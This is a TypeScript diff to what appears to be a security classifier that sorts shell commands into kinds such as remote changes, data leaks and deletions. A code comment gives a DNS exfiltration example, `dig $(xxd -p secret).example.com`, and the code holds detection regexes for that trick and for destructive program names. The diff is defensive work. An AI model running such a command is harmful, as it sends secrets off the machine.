@@ -3,7 +3,7 @@ import { statementKinds } from '../sql.ts'
 import { isPrivate } from '../targets/paths.ts'
 import { matchesAny } from '../tools/pattern.ts'
 import type { ReadyTool } from '../tools/table.ts'
-import { isDeletingOption, verbKind } from '../verbs.ts'
+import { isDeletingOption, powerKind, verbKind } from '../verbs.ts'
 import type { Program } from './program.ts'
 import { serviceKinds, sourceKinds, uploadKinds } from './services.ts'
 import { shown } from './situation.ts'
@@ -22,9 +22,9 @@ export function kindsOf(program: Program): readonly KindId[] {
 /** What the words of a program mean that talks to others: verbs, addresses, what they carry. */
 function namedKinds(program: Program, tool: ReadyTool, found: Set<KindId>): readonly KindId[] {
   const kinds: KindId[] = []
-  if (tool.is === 'changes-remote') {
+  if (tool.is === 'changes-remote' || tool.verbs === true) {
     addVerb(found, verbKind(program.given.positionals))
-    kinds.push(...serviceKinds(program))
+    kinds.push(...(tool.verbs === true ? spokenKinds(program) : serviceKinds(program)))
   } else if (found.has('changes-remote')) kinds.push(...uploadKinds(program))
   if (connecting.has(tool.is) || [...found].some((kind) => connecting.has(kind)))
     kinds.push(...sourceKinds(program))
@@ -32,11 +32,17 @@ function namedKinds(program: Program, tool: ReadyTool, found: Set<KindId>): read
   return kinds
 }
 
+/** What verb and noun mean, where nothing leaves this machine. */
+function spokenKinds(program: Program): readonly KindId[] {
+  const kind = powerKind(program.given.positionals)
+  return kind === undefined ? [] : [kind]
+}
+
 /** `dig $(xxd -p secret).example.com`: what is asked for carries data out, and so does a file of questions. */
 function leaks(program: Program): boolean {
   const { argv, given } = program
   return (
-    argv.some((value) => value.flow.secret) ||
+    argv.some((value) => value.flow.secret || /(?:\)|`)\.[\w-]+\.\w/.test(value.source)) ||
     given.options.some((option) => option.value !== undefined && isPrivate(option.value)) ||
     given.positionals.some((word) => /^[/~]/.test(word) && isPrivate(word))
   )
@@ -88,7 +94,6 @@ function unknownKinds(program: Program): readonly KindId[] {
   const deletes =
     verb === 'deletes-resources' ||
     given.options.some((option) => isDeletingOption(option.name)) ||
-    verbKind([name]) === 'deletes-resources' ||
     /(?:^|[-_/])(?:destroy|delete|purge|wipe|erase|drop|uninstall)(?:\.(?:sh|py))?$/.test(name)
   return deletes ? ['deletes-resources'] : ['unknown-program']
 }
